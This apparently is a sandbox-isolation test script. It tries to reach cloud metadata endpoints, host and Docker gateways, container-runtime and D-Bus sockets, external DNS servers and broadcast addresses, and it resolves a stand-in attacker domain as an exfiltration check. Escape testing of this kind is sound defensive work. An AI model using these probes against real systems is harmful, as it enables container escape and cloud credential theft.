# tries: to reach what it must not; the argument says what: metadata, host, neighbour, abstract, dns, datagrams, broadcast
# must: reach nothing; its own loopback is there, which shows that it could
import os
import socket
import sys

sys.path.insert(0, "/attack")
from attack import done, held, hole, told

PORT = int(told("CANARY_PORT") or 1)
NEIGHBOUR = int(told("NEIGHBOUR_PORT") or 1)


def connect(address, port, what):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(1.5)
        try:
            client.connect((address, port))
            hole(f"connected to {what} {address}:{port}")
        except OSError as error:
            held(f"{what} {address}:{port}: {error}")


def metadata():
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fe80::a9fe:a9fe", "168.63.129.16",
                    "::ffff:169.254.169.254", "metadata.google.internal"):
        try:
            numbers = socket.getaddrinfo(address, None)
        except OSError as error:
            held(f"{address}: {error}")
            continue
        connect(numbers[0][4][0], PORT, "metadata")


def host():
    for address in filter(None, told("HOST_ADDRESSES").split(",")):
        connect(address, PORT, "the host")
    for address in ("127.0.0.1", "::1", "localhost", "0.0.0.0", "127.0.1.1", "172.17.0.1", "host.docker.internal", "10.0.2.2", "192.168.0.1"):
        try:
            connect(socket.getaddrinfo(address, None)[0][4][0], PORT, "the host's canary")
        except OSError as error:
            held(f"{address}: {error}")


def neighbour():
    for address in ("127.0.0.1", "::1", "127.0.0.2", "0.0.0.0"):
        connect(address, NEIGHBOUR, "the neighbour")


def abstract():
    for name in filter(None, (told("CANARY_ABSTRACT"), told("NEIGHBOUR_ABSTRACT"), "/tmp/.X11-unix/X0", "/tmp/dbus-x", "/org/kernel/linux/storage/multipathd")):
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect("\0" + name)
                hole(f"connected to @{name}")
            except OSError as error:
                held(f"@{name}: {error}")
    # By name in the file system: engines, agents, buses.
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                 "/run/systemd/private", "/run/cloche/socket", told("CANARY_SOCKET")):
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(path)
                hole(f"connected to {path}")
            except OSError as error:
                held(f"{path}: {error}")
    # Whoever listens in this network namespace is in this list.
    with open("/proc/net/unix") as table:
        strangers = [line.split()[-1] for line in table if "@" in line]
    hole(f"sees {strangers}") if strangers else held("no abstract socket in sight")


def dns():
    for server in ("127.0.0.53", "127.0.0.11", "8.8.8.8", "1.1.1.1", "169.254.169.253", "127.0.0.1"):
        query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.3)
            try:
                client.sendto(query, (server, 53))
                client.recv(512)
                hole(f"{server} answers")
            except OSError as error:
                held(f"{server}: {error}")
    for name in ("example.com", "cloche-secret.attacker.test"):
        try:
            hole(f"{name} is {socket.gethostbyname(name)}")
        except OSError as error:
            held(f"{name}: {error}")


def datagrams():
    for address in filter(None, ["169.254.169.254", "8.8.8.8", *told("HOST_ADDRESSES").split(",")]):
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as client:
            try:
                client.sendto(b"cloche canary", (address, PORT))
                hole(f"sent to {address}")
            except OSError as error:
                held(f"{address}: {error}")
    # Ping without privileges.
    for family, protocol in ((socket.AF_INET, socket.IPPROTO_ICMP), (socket.AF_INET6, socket.IPPROTO_ICMPV6)):
        try:
            with socket.socket(family, socket.SOCK_DGRAM, protocol) as ping:
                ping.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("169.254.169.254" if family == socket.AF_INET else "fd00:ec2::254", 0))
                hole(f"pinged, family {family}")
        except OSError as error:
            held(f"ping: {error}")


def broadcast():
    for address, option in (("255.255.255.255", "broadcast"), ("224.0.0.1", "multicast"), ("239.255.255.250", "ssdp"), ("224.0.0.251", "mdns")):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                client.sendto(b"cloche canary", (address, PORT))
                hole(f"{option} left")
            except OSError as error:
                held(f"{option}: {error}")


# The control: what is its own, it reaches.
with socket.create_server(("127.0.0.1", 0)) as own:
    socket.create_connection(own.getsockname(), timeout=5).close()
{"metadata": metadata, "host": host, "neighbour": neighbour, "abstract": abstract, "dns": dns, "datagrams": datagrams,
 "broadcast": broadcast}[sys.argv[1]]()
done()
